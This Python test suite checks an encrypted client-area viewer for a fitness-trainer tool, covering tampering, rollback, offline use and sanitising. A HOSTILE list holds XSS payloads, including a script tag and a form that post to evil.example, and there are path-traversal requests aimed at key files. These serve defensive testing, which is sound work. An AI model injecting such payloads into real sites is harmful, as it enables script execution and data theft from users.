"""Clients' private areas: the files against an independent implementation, and the viewer in a real browser, in good hands and bad ones."""

import base64
import functools
import gzip
import http.client
import http.server
import json
import re
import signal
import subprocess
import tempfile
import threading
import types
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import unquote, urlsplit

from cryptography.exceptions import InvalidTag

import fpv1
import hosting
from pressed import Missing
from serving import Port, chromium

MOMENT = "2026-11-21"
NAME, GOAL, MESSAGE = "Zora Quint", "Carry both cellos up the stairs to the rehearsal room", "My left wrist clicks when I turn the key"
SECRETS = (NAME, GOAL, MESSAGE, "zora.quint@mail.example", "Goblet squat")
PLAN = """---
title: Two lifts
weeks: 2
level: beginner
goal: strength
---
## Weeks 1–2: Base

### Day 1: Whole body

- Goblet squat: 3 × 8, RPE 7, rest 90 s
- Plank: 2 × 30 s
"""
HOSTILE = [
    "<img src=x onerror=\"window.pwned=1\">",
    "<script>window.pwned=1</script><script src=\"https://evil.example/x.js\"></script>",
    "<svg onload=\"window.pwned=1\"><animate onbegin=\"window.pwned=1\" attributeName=x dur=1s></svg><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<a id=\"bad\" href=\"javascript:window.pwned=1\">x</a><form action=\"https://evil.example/\"><input name=code><button id=go>x</button></form>",
    "<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=\"https://evil.example/y.css\"><div style=\"background:url(https://evil.example/z.png)\">x</div><base href=\"https://evil.example/\">",
]

def check(binary: Path | None) -> list[str]:
    """Everything that a client's area promises."""
    if binary is None or not binary.is_file():
        raise Missing("say where the command is: --floorpress BINARY")
    with tempfile.TemporaryDirectory() as folder:
        studio = Studio(binary.resolve(), Path(folder) / "studio")
        problems = fpv1.vectors() + files(studio) + hosts(studio)
        with chromium() as browser:
            for trial in (unlocking, wrong_code, insecure, tampered, rolled_back, fresh, offline, forgetting, documents, remembered, hostile, single_file, diary):
                try:
                    found = trial(studio, browser)
                except Exception as error:
                    found = [f"{type(error).__name__}: {str(error)[:400]}"]
                problems += [f"{trial.__name__}: {problem}" for problem in found]
                print(f"  {trial.__name__}: {'FAILED' if found else 'passed'}", flush=True)
    return problems

class Studio:
    """A studio of its own with one client and her area."""

    def __init__(self, binary: Path, root: Path):
        self.binary, self.root = binary, root
        subprocess.run([binary, "new", root], check=True, capture_output=True)
        settings = (root / "studio.yml").read_text() + "\nareas: {url: https://my.studio.example}\n"
        (root / "studio.yml").write_text(settings)
        (root / "Content" / "plans").mkdir(exist_ok=True)
        (root / "Content" / "plans" / "two-lifts.md").write_text(PLAN)
        self.run("client", "add", "zora", "--name", NAME, "--email", "zora.quint@mail.example", "--goal", GOAL, "--at", MOMENT)
        self.run("plan", "assign", "zora", "two-lifts", "--start", "2026-11-16", "--days", "Mon", "--at", MOMENT)
        self.run("measure", "zora", "--mass", "70.5kg", "--date", "2026-11-20", "--at", MOMENT)
        self.run("message", "add", "zora", MESSAGE, "--from-client", "--at", MOMENT)
        made = json.loads(self.run("area", "create", "zora", "--json", "--at", MOMENT))[0]
        self.area, self.code = made["folder"], made["code"]
        self.fragment = made["link"].split("#")[1]
        self.build()
        self.clients = root / "Output" / "clients"
        self.key = fpv1.data_key(self.file("keys.bin"), base64.urlsafe_b64decode(self.fragment + "="), self.code)

    def run(self, *words: str) -> str:
        run = subprocess.run([self.binary, *words, "--studio", self.root], capture_output=True, text=True, timeout=300)
        if run.returncode != 0:
            raise Missing(f"floorpress {' '.join(words[:2])}: {run.stderr}")
        return run.stdout

    def build(self, at: str = MOMENT):
        self.run("build", "--at", at)

    def file(self, name: str) -> bytes:
        return (self.root / "Output" / "clients" / self.area / name).read_bytes()

    @property
    def index(self) -> dict:
        return json.loads(fpv1.opened(self.key, self.file("index.bin")))

    def files(self) -> dict[str, bytes]:
        """The area as it lies on the host, by path below its root."""
        return {"/" + path.relative_to(self.clients).as_posix(): path.read_bytes() for path in self.clients.rglob("*") if path.is_file()}

class Host(http.server.SimpleHTTPRequestHandler):
    """Serves what is in memory, with the headers of the areas' `_headers`; remembers all that it gave out."""

    protocol_version = "HTTP/1.1"

    def __init__(self, *arguments, state, **named):
        self.state = state
        super().__init__(*arguments, **named)

    def log_message(self, *arguments):
        pass

    def do_GET(self):
        path = unquote(urlsplit(self.path).path)
        body = self.state["files"].get(path + "index.html" if path.endswith("/") else path)
        self.state["asked"].append(self.path)
        self.send_response(200 if body is not None else 404)
        body = body if body is not None else b"not here"
        self.state["given"].append(body)
        self.send_header("Content-Type", {"html": "text/html", "js": "text/javascript", "css": "text/css", "svg": "image/svg+xml", "png": "image/png",
                                          "webmanifest": "application/manifest+json", "txt": "text/plain"}.get(path.rsplit(".")[-1], "text/html" if path.endswith("/") else "application/octet-stream"))
        for name, value in self.state["headers"].items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

@contextmanager
def hosted(files: dict[str, bytes]):
    """The areas on a port: address, and what can be changed while it runs."""
    lines = files.get("/_headers", b"").decode().splitlines()
    first = lines[1:next(index for index, line in enumerate(lines + ["/"]) if index and line.startswith("/"))]
    headers = dict(line.strip().split(": ", 1) for line in first)
    state = {"files": dict(files), "asked": [], "given": [], "headers": headers}
    server = Port(("127.0.0.1", 0), functools.partial(Host, state=state))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    state["stop"] = lambda: (server.shutdown(), server.server_close())
    try:
        yield f"http://127.0.0.1:{server.server_port}", state
    finally:
        state["stop"]()

def files(studio: Studio) -> list[str]:
    """Every sealed file opens, and sealed once more by the other implementation it is the same, byte for byte."""
    problems, index = [], studio.index
    names = {entry["id"] + ".bin" for entry in index["files"]} | {"index.bin", "keys.bin"}
    there = {path.name for path in (studio.clients / studio.area).glob("*.bin")}
    if names != there:
        problems.append(f"the index names {sorted(names - there)} that are not there, and {sorted(there - names)} are there beyond it")
    for entry in [None, *index["files"]]:
        file = studio.file(entry["id"] + ".bin" if entry else "index.bin")
        flags = int.from_bytes(file[6:8], "big")
        name = fpv1.name_of(studio.key, entry["path"]) if entry else bytes(16)
        if entry and (name.hex() != entry["id"] or file[40:48].hex() != entry["v"] or len(fpv1.opened(studio.key, file)) != entry["size"]):
            problems.append(f"{entry['path']}: id, version or size is not what the index says")
        head = fpv1.header(fpv1.OBJECT if entry else fpv1.INDEX, flags, bytes.fromhex(studio.area), name)
        if fpv1.sealed(studio.key, head, fpv1.stored(studio.key, file)) != file:
            problems.append(f"{entry['path'] if entry else 'the index'} is other bytes than by the other implementation")
    words = [word.encode() for word in (*SECRETS, studio.code, studio.code.replace("-", ""), studio.fragment, studio.key.hex())]
    for path, body in studio.files().items():
        problems += [f"{path} holds a secret in the clear" for word in words if word in body or word in path.encode()]
    script = sum(len(body) for path, body in studio.files().items() if path.endswith(".js"))
    if script >= 20_480:
        problems.append(f"the viewer has {script} bytes of script, more than 20 KB")
    shell = studio.file("index.html").decode()
    if re.search(r"<script(?![^>]*(src=|type=\"application/json\"))|<style| style=| on\w+=", shell):
        problems.append("the page around the viewer has an inline script or style")
    before = studio.files()
    studio.build()
    if studio.files() != before:
        problems.append("a second build of the same studio gives other bytes")
    studio.build("2026-11-22")
    after = studio.files()
    problems += [f"{path} changed over night, though nothing in it did" for path in before if after.get(path) != before[path]]
    studio.build()
    print(f"  {len(names)} sealed files, {script} bytes of script")
    return problems

def hosts(studio: Studio) -> list[str]:
    """nginx with our rules and `floorpress serve` give out the same files with the same headers, and no more than they should."""
    site = types.SimpleNamespace(root=studio.clients)
    with hosting.served(site, studio.root / "Output" / "trainer" / "hosting" / "nginx-areas.conf") as port:
        problems = [f"nginx: {problem}" for problem in headers(studio, port)]
    server = subprocess.Popen([studio.binary, "serve", "--port", "18787", "--studio", studio.root], stdout=subprocess.PIPE, text=True)
    try:
        addresses = [server.stdout.readline().split()[-1] for _ in range(2)]
        problems += [f"serve: {problem}" for problem in headers(studio, urlsplit(addresses[1]).port)]
        public = http.client.HTTPConnection("127.0.0.1", urlsplit(addresses[0]).port)
        public.request("GET", "/")
        answer = public.getresponse()
        if answer.status != 200 or answer.read() != (studio.root / "Output/public/index.html").read_bytes() or "default-src" not in answer.getheader("Content-Security-Policy", ""):
            problems.append("serve: the public site is not given out as it is")
    finally:
        server.send_signal(signal.SIGINT)
        if server.wait(10) != 0:
            problems.append(f"serve ends with {server.returncode}")
    return problems

def headers(studio: Studio, port: int) -> list[str]:
    problems, wanted = [], dict(line.strip().split(": ", 1) for line in studio.files()["/_headers"].decode().splitlines()[1:] if line.startswith("  ") and "!" not in line and "immutable" not in line)
    script = next(path for path in studio.files() if path.endswith(".js") and "/assets/" in path)
    for path, cached in ((at(studio, "index.bin"), "no-cache"), (at(studio, ""), "no-cache"), (script, "immutable")):
        connection = http.client.HTTPConnection("127.0.0.1", port)
        connection.request("GET", path)
        answer = connection.getresponse()
        if answer.status != 200 or answer.read() != studio.files()[path + ("index.html" if path.endswith("/") else "")]:
            problems.append(f"{path} is not given out as it is")
        problems += [f"{path} comes with {name}: {answer.getheader(name)}" for name, value in wanted.items() if name != "Cache-Control" and answer.getheader(name) != value]
        if cached not in answer.getheader("Cache-Control", ""):
            problems.append(f"{path} comes with Cache-Control: {answer.getheader('Cache-Control')}")
    for path in ("/_headers", "/.htaccess", "/..%2f..%2fData/keys", f"/{studio.area}/../../../Data/keys", f"/{studio.area}"):
        connection = http.client.HTTPConnection("127.0.0.1", port)
        connection.request("GET", path)
        if connection.getresponse().status == 200:
            problems.append(f"{path} is given out")
    return problems

@contextmanager
def visit(studio: Studio, browser, changes: dict[str, bytes] | None = None, path: str | None = None, **context):
    """A page of the area in a browser of its own, with what went wrong in it."""
    everything = {**studio.files(), **(changes or {})}
    with hosted(everything) as (base, state):
        session = browser.new_context(viewport={"width": 360, "height": 740}, **context)
        page = session.new_page()
        state["errors"] = []
        page.on("pageerror", lambda error: state["errors"].append(str(error)))
        page.on("console", lambda message: state["errors"].append(message.text) if message.type == "error" else None)
        page.goto(f"{base}/{studio.area}/" + (path if path is not None else f"#{studio.fragment}"))
        try:
            yield page, state, base
        finally:
            session.close()

def enter(studio: Studio, page, remember: bool = False, code: str | None = None):
    page.locator("#lock").wait_for()
    page.fill("[name=code]", code or studio.code.lower().replace("-", " "))
    if remember:
        page.check("[name=remember]")
    page.click("#lock button")
    page.locator("body.open").wait_for(timeout=10_000)

def alert(page) -> str:
    page.locator("[role=alert]:not(:empty)").wait_for(timeout=10_000)
    return page.locator("[role=alert]").inner_text()

def at(studio: Studio, name: str) -> str:
    return f"/{studio.area}/{name}"

def unlocking(studio: Studio, browser) -> list[str]:
    """Link and code open it; each page shows what it must; nothing in any answer can be read; all fits a narrow screen."""
    problems = []
    with visit(studio, browser) as (page, state, base):
        enter(studio, page)
        text = page.inner_text("main")
        if "Goblet squat" not in text and "Two lifts" not in text:
            problems.append(f"the plan is not shown: {text[:200]}")
        for name, word in (("diary", "Check-in"), ("progress", "Weight"), ("messages", MESSAGE), ("documents", "Booklet"), ("exercises", "Goblet squat")):
            page.click(f"#nav [data-page='pages/{name}.html']")
            page.locator(f"#nav [data-page='pages/{name}.html'][aria-current=page]").wait_for()
            if word not in page.inner_text("main"):
                problems.append(f"{name} does not show `{word}`")
            if page.evaluate("document.documentElement.scrollWidth") > 360:
                problems.append(f"{name} is wider than 360 pixels")
            small = page.evaluate("[...document.querySelectorAll('main button, #nav button, summary')].filter(e => e.offsetParent && e.getBoundingClientRect().height < 43).map(e => e.textContent)")
            problems += [f"{name}: `{label}` is too small to hit" for label in small]
        if any(word.encode() in body for word in SECRETS for body in state["given"]):
            problems.append("an answer of the host can be read")
        if any(studio.fragment in asked or studio.code in asked for asked in state["asked"]):
            problems.append("a secret was sent to the host")
        problems += state["errors"]
    return problems

def wrong_code(studio: Studio, browser) -> list[str]:
    """A wrong code, a link cut short and one without its secret are told, and show nothing."""
    problems = []
    with visit(studio, browser) as (page, state, base):
        page.locator("#lock").wait_for()
        for code in ("0000-0000-0000", "short"):
            page.fill("[name=code]", code)
            page.click("#lock button")
            if "does not open" not in alert(page):
                problems.append(f"`{code}` is not told to be wrong")
        if page.locator("body.open").count():
            problems.append("a wrong code opens the area")
    with visit(studio, browser, path="") as (page, state, base):
        page.locator("#lock").wait_for()
        if not page.is_visible("[name=link]"):
            problems.append("nobody asks for the link where it has no secret")
        page.fill("[name=link]", f"https://my.studio.example/{studio.area}/#{studio.fragment}")
        enter(studio, page)
    return problems

def insecure(studio: Studio, browser) -> list[str]:
    """Over plain http a browser has no `crypto.subtle`: that is said in words."""
    with hosted(studio.files()) as (base, state):
        plain = browser.browser_type.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox", "--host-resolver-rules=MAP plain.example 127.0.0.1"])
        try:
            page = plain.new_page()
            page.goto(f"http://plain.example:{base.rsplit(':')[-1]}/{studio.area}/#{studio.fragment}")
            words = alert(page)
            return [] if "https://" in words else [f"it says `{words}`"]
        finally:
            plain.close()

def tampered(studio: Studio, browser) -> list[str]:
    """One changed bit in any file is noticed; so is an old object under a new index, or another one's in its place."""
    problems = []
    def flipped(name: str, place: int) -> dict[str, bytes]:
        body = bytearray(studio.file(name))
        body[place] ^= 1
        return {at(studio, name): bytes(body)}
    start = next(entry for entry in studio.index["files"] if entry["path"] == studio.index["start"])
    other = next(entry for entry in studio.index["files"] if entry["path"] == "pages/diary.html")
    stale = fpv1.sealed(studio.key, fpv1.header(fpv1.OBJECT, 0, bytes.fromhex(studio.area), bytes.fromhex(start["id"])), b"<p>an older page</p>")
    trials = {
        "an object": flipped(start["id"] + ".bin", 100), "its header": flipped(start["id"] + ".bin", 30), "its salt": flipped(start["id"] + ".bin", 60),
        "the index": flipped("index.bin", 90), "an older object": {at(studio, start["id"] + ".bin"): stale},
        "another object": {at(studio, start["id"] + ".bin"): studio.file(other["id"] + ".bin")},
        "a short object": {at(studio, start["id"] + ".bin"): studio.file(start["id"] + ".bin")[:80]},
    }
    for name, changes in trials.items():
        with visit(studio, browser, changes) as (page, state, base):
            page.locator("#lock").wait_for()
            page.fill("[name=code]", studio.code)
            page.click("#lock button")
            page.wait_for_selector("main > [role=alert]", timeout=10_000)
            if "changed on its way" not in page.inner_text("main"):
                problems.append(f"{name} was changed, and it says `{page.inner_text('main')[:100]}`")
            if "Goblet" in page.inner_text("main") or "older page" in page.inner_text("main"):
                problems.append(f"{name} was changed, and something is shown")
    for place in (45, 60, 70, 100):
        with visit(studio, browser, flipped("keys.bin", place)) as (page, state, base):
            page.locator("#lock, main > [role=alert]").first.wait_for()
            if page.locator("#lock").is_visible():
                page.fill("[name=code]", studio.code)
                page.click("#lock button")
            if not any(word in alert(page) for word in ("does not open", "changed on its way", "newer kind")):
                problems.append(f"keys.bin was changed at {place}, and it says `{alert(page)}`")
            if page.locator("body.open").count():
                problems.append(f"keys.bin was changed at {place}, and it opens")
    newer = bytearray(studio.file("keys.bin"))
    newer[3] = ord("2")
    with visit(studio, browser, {at(studio, "keys.bin"): bytes(newer)}) as (page, state, base):
        if "newer kind" not in alert(page):
            problems.append("a newer format is not told")
    return problems

def reseal(studio: Studio, sequence: int, pages: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """The area with an index of another number, or with other pages, made by the other implementation."""
    area, index = bytes.fromhex(studio.area), studio.index
    changes = {}
    if pages:
        index["files"] = []
        index["start"] = next(iter(pages))
        for path, body in pages.items():
            name = fpv1.name_of(studio.key, path)
            file = fpv1.sealed(studio.key, fpv1.header(fpv1.OBJECT, 0, area, name), body)
            changes[at(studio, name.hex() + ".bin")] = file
            index["files"].append({"path": path, "mime": "text/html", "id": name.hex(), "size": len(body), "v": file[40:48].hex(), "title": path})
    index["sequence"] = sequence
    body = json.dumps(index).encode()
    changes[at(studio, "index.bin")] = file = fpv1.sealed(studio.key, fpv1.header(fpv1.INDEX, 1, area), gzip.compress(body))
    changes[at(studio, "version.txt")] = file[40:48].hex().encode()
    return changes

def rolled_back(studio: Studio, browser) -> list[str]:
    """Who saw a newer area is told when the host gives out an older one."""
    problems = []
    with visit(studio, browser) as (page, state, base):
        enter(studio, page)
        state["files"].update(reseal(studio, studio.index["sequence"] - 1))
        page.reload()
        page.locator("#lock").wait_for()
        page.fill("[name=code]", studio.code)
        page.click("#lock button")
        page.wait_for_selector("main > [role=alert]")
        if "older than what you saw" not in page.inner_text("main"):
            problems.append(f"it says `{page.inner_text('main')[:100]}`")
        page.click("main button")
        page.locator("body.open").wait_for()
    return problems

def fresh(studio: Studio, browser) -> list[str]:
    """An open page offers a newer build, shows it, and marks what is new."""
    with visit(studio, browser) as (page, state, base):
        enter(studio, page)
        state["files"].update(reseal(studio, studio.index["sequence"] + 1, {"pages/training.html": b"<h1>Newer words</h1>", "pages/extra.html": b"<h1>Extra</h1>"}))
        page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
        page.locator("#fresh").click(timeout=10_000)
        page.locator("text=Newer words").wait_for(timeout=10_000)
        return [] if page.locator("#nav .new").count() == 1 else ["the new page is not marked"]

def offline(studio: Studio, browser) -> list[str]:
    """After one visit all pages and documents open with the host gone; what is kept for that is sealed."""
    problems = []
    with visit(studio, browser) as (page, state, base):
        enter(studio, page)
        page.wait_for_function("async () => (await (await caches.open('floorpress')).keys()).length >= %d" % (len(studio.index["files"]) + 6), timeout=15_000)
        page.wait_for_function("() => navigator.serviceWorker.controller || navigator.serviceWorker.ready.then(() => true)", timeout=10_000)
        page.wait_for_timeout(500)
        kept = page.evaluate("async () => { const cache = await caches.open('floorpress'); const out = []; for (const request of await cache.keys()) out.push(request.url, await (await cache.match(request)).text()); return out.join('\\n'); }")
        problems += [f"`{word[:12]}…` is kept in the clear" for word in (*SECRETS, studio.fragment, studio.code) if word in kept]
        state["stop"]()
        page.reload()
        enter(studio, page)
        for entry in studio.index["files"]:
            if entry["mime"] == "text/html":
                page.click(f"#nav [data-page='{entry['path']}']")
                page.locator(f"#nav [data-page='{entry['path']}'][aria-current=page]").wait_for(timeout=5_000)
        if page.locator("main > [role=alert]").count():
            problems.append(page.inner_text("main")[:100])
    return problems

def remembered(studio: Studio, browser) -> list[str]:
    """Not kept unless it was wanted; and what is kept cannot be taken out."""
    problems = []
    with visit(studio, browser) as (page, state, base):
        enter(studio, page)
        page.reload()
        page.locator("#lock").wait_for()
        enter(studio, page, remember=True)
        page.goto(f"{base}/{studio.area}/")
        page.locator("body.open").wait_for(timeout=10_000)
        kinds = page.evaluate("""async () => { const open = indexedDB.open('floorpress'); await new Promise(done => open.onsuccess = done);
            const rows = open.result.transaction('kept').objectStore('kept'); const keys = await new Promise(done => rows.getAllKeys().onsuccess = e => done(e.target.result));
            const values = await new Promise(done => rows.getAll().onsuccess = e => done(e.target.result));
            return values.filter(v => v instanceof CryptoKey).map(k => k.extractable).concat(JSON.stringify(keys)); }""")
        if kinds[:-1] != [False]:
            problems.append(f"what is kept as a key can be taken out: {kinds}")
    return problems

def forgetting(studio: Studio, browser) -> list[str]:
    """“Forget this device” leaves no key, no diary and no file."""
    with visit(studio, browser) as (page, state, base):
        enter(studio, page, remember=True)
        page.click("#nav [data-page='pages/diary.html']")
        page.fill("[data-kind=message] textarea", "words that are to be forgotten")
        page.wait_for_timeout(800)
        page.on("dialog", lambda dialog: dialog.accept())
        page.click("[data-forget]")
        page.locator("#lock").wait_for(timeout=10_000)
        left = page.evaluate("""async () => { const open = indexedDB.open('floorpress'); await new Promise(done => open.onsuccess = done);
            const keys = await new Promise(done => open.result.transaction('kept').objectStore('kept').getAllKeys().onsuccess = e => done(e.target.result));
            return keys.concat((await (await caches.open('floorpress')).keys()).map(request => request.url)); }""")
        return [f"this is left: {left}"] if left else []

def documents(studio: Studio, browser) -> list[str]:
    """A PDF is saved as the trainer's own copy has it, and opens."""
    problems = []
    with visit(studio, browser, accept_downloads=True) as (page, state, base):
        enter(studio, page)
        page.click("#nav [data-page='pages/documents.html']")
        with page.expect_download() as saving:
            page.click("[data-save='documents/booklet.pdf']")
        saved = Path(saving.value.path()).read_bytes()
        if saved != (studio.root / "Output/trainer/clients/zora/booklet.pdf").read_bytes():
            problems.append("the booklet that was saved is another than the trainer's")
        # What the browser would be led to; headless, it has no viewer of its own.
        page.evaluate("() => { window.led = []; HTMLAnchorElement.prototype.click = function () { led.push([this.href, this.download]); }; }")
        page.click("[data-open='documents/booklet.pdf']")
        page.wait_for_function("led.length", timeout=10_000)
        address, name = page.evaluate("led[0]")
        if not address.startswith(f"blob:{base}") or name:
            problems.append(f"a document opens as {address} {name}")
    return problems

def hostile(studio: Studio, browser) -> list[str]:
    """Five pages of an attacker who has the key: with the sanitiser nothing is left of them; with it taken out, the policy still lets nothing run or go out."""
    problems = []
    name = next(path for path in studio.files() if path.endswith(".js") and "viewer" in path)
    script = studio.files()[name].decode()
    without = script.replace("clean(page);", "", 1)
    if without == script:
        return ["the sanitiser is not where this check looks for it"]
    for number, payload in enumerate(HOSTILE):
        page_of = {"pages/training.html": f"<h1>shown</h1>{payload}".encode()}
        for sanitised in (True, False):
            changes = {**reseal(studio, 2**40, page_of), **({} if sanitised else {name: without.encode()})}
            with visit(studio, browser, changes) as (page, state, base):
                asked = []
                # Chromium tells of what the policy stopped as well, as a request that failed for that reason.
                page.on("requestfinished", lambda request: asked.append(request.url))
                page.on("requestfailed", lambda request: request.failure == "csp" or asked.append(request.url))
                enter(studio, page)
                page.locator("text=shown").wait_for()
                for target in ("#bad", "#go"):
                    if page.locator(target).count():
                        page.locator(target).click(timeout=1000, no_wait_after=True)
                page.wait_for_timeout(400)
                mode = "sanitised" if sanitised else "by the policy alone"
                if page.evaluate("window.pwned"):
                    problems.append(f"payload {number} runs, {mode}")
                problems += [f"payload {number} asks for {url}, {mode}" for url in asked if not url.startswith(base)]
                if sanitised and page.locator("main script, main iframe, main style, main link, main base, main img, main [onerror], main [onload], main [style]").count():
                    problems.append(f"payload {number} is still in the page")
                if not page.url.startswith(base):
                    problems.append(f"payload {number} leads away, {mode}")
    return problems

def single_file(studio: Studio, browser) -> list[str]:
    """The copy in one file opens from a disk, without any host, and holds nothing in the clear."""
    problems = []
    file = studio.root / "copy.html"
    studio.run("area", "offline", "zora", str(file))
    body = file.read_bytes()
    problems += [f"the copy holds `{word[:12]}…` in the clear" for word in (*SECRETS, studio.code, studio.fragment) if word.encode() in body]
    context = browser.new_context()
    page, asked = context.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"file://{file}#{studio.fragment}")
    enter(studio, page)
    if "Two lifts" not in page.inner_text("main"):
        problems.append("the copy does not show the plan")
    problems += [f"the copy asks for {url}" for url in asked if not url.startswith(("file:", "blob:", "data:"))]
    context.close()
    return problems

def diary(studio: Studio, browser) -> list[str]:
    """What is written down survives a reload, sealed, and leaves as one file that the trainer's key opens."""
    problems = []
    with visit(studio, browser, accept_downloads=True) as (page, state, base):
        page.clock.set_system_time("2026-11-23T18:00:00Z")
        page.reload()
        enter(studio, page, remember=True)
        session = page.locator("[data-session]").first
        if "2026-11-23" not in (session.get_attribute("data-date") or ""):
            problems.append("today's session is not the first")
        session.locator("button[data-log]").click()
        session.locator(".done").first.click()
        page.fill("[name='l0.1']", "17,5")
        page.fill("[name='r0.1']", "8")
        page.fill("[name=note]", "felt <b>light</b>")
        page.fill("[name=rpe]", "7")
        page.fill("[name=minutes]", "35")
        page.click("#nav [data-page='pages/diary.html']")
        page.fill("[data-kind=measurement] [name=mass]", "70,1")
        page.check("[name=q-energy][value='4']")
        page.fill("[data-kind=message] textarea", "See you on <script>alert(1)</script> Thursday")
        page.wait_for_timeout(800)
        kept = page.evaluate("""async () => { const open = indexedDB.open('floorpress'); await new Promise(done => open.onsuccess = done);
            const row = await new Promise(done => open.result.transaction('kept').objectStore('kept').get('%s/diary').onsuccess = e => done(e.target.result));
            return new TextDecoder('latin1').decode(row.data); }""" % studio.area)
        if "light" in kept or "Thursday" in kept:
            problems.append("the diary is kept in the clear")
        page.reload()
        page.locator("body.open").wait_for(timeout=10_000)
        page.click("#nav [data-page='pages/diary.html']")
        page.locator("[data-kind=measurement]").wait_for()
        if page.input_value("[data-kind=measurement] [name=mass]") != "70,1":
            problems.append("what was written is gone after a reload")
        with page.expect_download() as saving:
            page.click("[data-send=download]")
        sent = base64.b64decode(Path(saving.value.path()).read_bytes())
        problems += state["errors"]
    try:
        value = json.loads(fpv1.opened(studio.key, sent, b"fpv1/diary"))
    except InvalidTag:
        return [*problems, "the file that was sent does not open"]
    keys = {entry["key"]: entry["fields"] for entry in value["entries"]}
    if set(keys) != {"session/2026-11-23/1", "measurement/2026-11-23", "check-in/2026-11-23", "message/2026-11-23"}:
        problems.append(f"other entries were sent: {sorted(keys)}")
    if b"Thursday" in sent:
        problems.append("what was sent can be read")
    return problems + taken_in(studio, sent)

def taken_in(studio: Studio, sent: bytes) -> list[str]:
    """The trainer takes it in, once; the next build shows it; a later writing changes it; what the trainer changed stays."""
    problems, day = [], "2026-11-24"
    inbox = studio.root / "Data" / "inbox"
    inbox.mkdir(exist_ok=True)
    (inbox / "one.txt").write_bytes(base64.b64encode(sent))
    def take(expected: int = 0) -> dict:
        run = subprocess.run([studio.binary, "import", "diary", "--json", "--at", day, "--studio", studio.root], capture_output=True, text=True, timeout=120)
        if run.returncode != expected:
            problems.append(f"import ends with {run.returncode}: {run.stdout[-500:]} {run.stderr[-500:]}")
        return json.loads(run.stdout or "{}")
    first = take()["sendings"][0]
    if first["added"] != {"session": 1, "measurement": 1, "check-in": 1, "message": 1} or first["conflicts"]:
        problems.append(f"the first import says {first}")
    again = take()["sendings"][0]
    if again["added"] or again["changed"] or again["known"] != 4:
        problems.append(f"the second import says {again}")
    workouts = json.loads(studio.run("log", "list", "zora", "--json"))
    sets = [(entry.get("reps"), entry.get("load"), entry.get("grams")) for workout in workouts for entry in workout.get("sets", [])]
    if "Goblet squat" not in json.dumps(workouts):
        problems.append(f"the workout is not in the records: {json.dumps(workouts)[:300]}")
    studio.build(day)
    shown = "".join(fpv1.opened(studio.key, studio.file(entry["id"] + ".bin")).decode() for entry in studio.index["files"] if entry["mime"] == "text/html")
    if "17.5 × 8" not in shown:
        problems.append(f"the next build does not show the sets {sets}")
    if "&lt;script&gt;alert(1)&lt;/script&gt;" not in shown or "<script>alert(1)" in shown:
        problems.append("the client's words are not shown as words")
    value = json.loads(fpv1.opened(studio.key, sent, b"fpv1/diary"))
    def later(sequence: int, **mass: str):
        entry = {"key": "measurement/2026-11-23", "kind": "measurement", "saved": f"2026-11-24T0{sequence}:00:00.000Z", "fields": {"unit": "kg", **mass}}
        body = gzip.compress(json.dumps({**value, "sequence": sequence, "entries": [entry]}).encode())
        file = fpv1.sealed(studio.key, fpv1.header(fpv1.DIARY, 1, bytes.fromhex(studio.area), bytes([sequence]) * 16), body, b"fpv1/diary")
        (inbox / f"later-{sequence}.txt").write_bytes(base64.b64encode(file))
        return file
    later(2, mass="69.9")
    if take()["sendings"][1]["changed"] != {"measurement": 1}:
        problems.append("a later writing does not take the place of the earlier one")
    studio.run("measure", "zora", "--waist", "80", "--date", "2026-11-23", "--at", day)
    file = later(3, mass="69.0")
    if take(expected=1)["sendings"][-1]["conflicts"] != ["measurement of 2026-11-23"]:
        problems.append("what the trainer wrote is not told as a conflict")
    (inbox / "later-3.txt").write_bytes(base64.b64encode(file[:100] + bytes([file[100] ^ 1]) + file[101:]))
    if "changed on its way" not in json.dumps(take(expected=1)["refused"]):
        problems.append("a changed sending is not refused")
    return problems
